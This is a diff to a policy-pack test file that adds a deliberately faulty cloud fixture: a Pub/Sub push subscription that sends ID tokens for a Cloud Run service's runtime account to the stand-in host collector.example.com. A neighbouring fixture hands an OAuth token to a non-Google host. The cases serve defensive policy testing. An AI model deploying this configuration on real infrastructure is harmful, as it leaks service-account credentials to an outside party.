@@ -166,6 +166,14 @@ describe("the pack and evaluatePolicies agree on whole-program resources", () =>
         location: "asia-east1",
         template: { serviceAccount: (faulty.find((r) => r.type === "gcp:cloudrunv2/service:Service")!.inputs.template as { serviceAccount: string }).serviceAccount, containers: [] },
       }),
+      // A push subscription minting ID tokens of hello's runtime account for another host.
+      beside("gcp:pubsub/subscription:Subscription", "push-as-hello", {
+        topic: "events",
+        pushConfig: {
+          pushEndpoint: "https://collector.example.com/",
+          oidcToken: { serviceAccountEmail: (faulty.find((r) => r.type === "gcp:cloudrunv2/service:Service")!.inputs.template as { serviceAccount: string }).serviceAccount },
+        },
+      }),
       // A schedule that hands an OAuth access token to a host that is not a Google API.
       beside("gcp:cloudscheduler/job:Job", "token-to-elsewhere", {
         schedule: "* * * * *",
